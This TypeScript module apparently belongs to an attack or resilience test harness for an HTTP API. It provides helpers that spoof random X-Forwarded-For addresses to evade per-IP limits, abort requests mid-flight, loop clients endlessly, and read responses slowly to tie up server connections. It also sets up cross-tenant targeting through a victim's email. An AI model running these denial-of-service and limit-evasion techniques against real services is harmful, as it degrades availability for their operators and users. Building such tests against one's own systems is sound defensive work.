import { randomInt } from 'node:crypto';
import { once } from 'node:events';
import { Agent, type ClientRequest, type IncomingMessage, request } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';

/** Where an attack takes place: the service, and what the attacker has there. */
export interface Ground {
  /** Base address of the API. */
  api: string;
  /** Of the OWNER of a company. */
  token: string;
  apiKey: string;
  projectId: string;
  taskIds: string[];
  /** An address that somebody of another company logs in with. */
  victimEmail: string;
}

interface Call {
  method?: string;
  path: string;
  token?: string;
  /** JSON. */
  body?: string;
  /** Milliseconds after which the client is gone. */
  hangUpAfter?: number;
}

const agent = new Agent({ keepAlive: true });

/** Somebody on the internet: an attacker has as many addresses as it takes. */
function anyAddress(): string {
  return [11, randomInt(256), randomInt(256), randomInt(256)].join('.');
}

function headersOf({ token, body }: Call): Record<string, string> {
  return {
    Host: 'localhost',
    'X-Forwarded-Proto': 'https',
    'X-Forwarded-For': anyAddress(),
    ...(token !== undefined && { Authorization: `Bearer ${token}` }),
    ...(body !== undefined && {
      'Content-Type': 'application/json',
      'Content-Length': String(Buffer.byteLength(body)),
    }),
  };
}

/** Asks, and resolves to the status and the text of the answer. */
export async function ask(ground: Ground, call: Call): Promise<{ status: number; text: string }> {
  const { method = 'GET', path, body, hangUpAfter } = call;
  const sent: ClientRequest = request(ground.api + path, { method, headers: headersOf(call), agent });
  if (hangUpAfter !== undefined) setTimeout(() => sent.destroy(), hangUpAfter).unref();
  sent.end(body);
  const [answer] = (await once(sent, 'response')) as [IncomingMessage];
  let text = '';
  for await (const chunk of answer.setEncoding('utf8')) text += chunk;
  return { status: answer.statusCode ?? 0, text };
}

/** As `ask`, for what the attack needs. */
export async function make<Body>(ground: Ground, path: string, body: object): Promise<Body> {
  const call = { method: 'POST', path, token: ground.token, body: JSON.stringify(body) };
  const { status, text } = await ask(ground, call);
  if (status >= 300) throw new Error(`POST ${path}: ${status} ${text}`);
  return JSON.parse(text) as Body;
}

/** So many clients that do it again and again, whatever comes of it, until the process is killed. */
export function forever(clients: number, work: (round: number) => Promise<unknown>): void {
  const client = async (first: number): Promise<never> => {
    for (let round = first; ; round += clients) {
      // A refusal at once is asked again a moment later: two cores are shared with the victim's own clients.
      await work(round).catch(() => undefined);
      await delay(5);
    }
  };
  for (let number = 0; number < clients; number += 1) void client(number);
}

/** Asks over a connection of its own and takes `bytesPerSecond` of the answer; resolves when the service cuts it off. */
export async function readSlowly(ground: Ground, call: Call, bytesPerSecond: number): Promise<void> {
  const { hostname, port, pathname } = new URL(ground.api);
  const socket = connect({ host: hostname, port: Number(port) });
  socket.on('error', () => undefined);
  const headers = Object.entries(headersOf(call)).map(([name, value]) => `${name}: ${value}\r\n`);
  socket.write(`GET ${pathname}${call.path} HTTP/1.1\r\n${headers.join('')}\r\n`);
  if (bytesPerSecond > 0) {
    socket.on('data', ({ length }: Buffer) => {
      socket.pause();
      setTimeout(() => socket.resume(), (length / bytesPerSecond) * 1_000);
    });
  }
  // A client that never reads notices a closed connection only by an error when it sends.
  const probing = setInterval(() => socket.write('\r\n'), 1_000);
  await once(socket, 'close');
  clearInterval(probing);
}
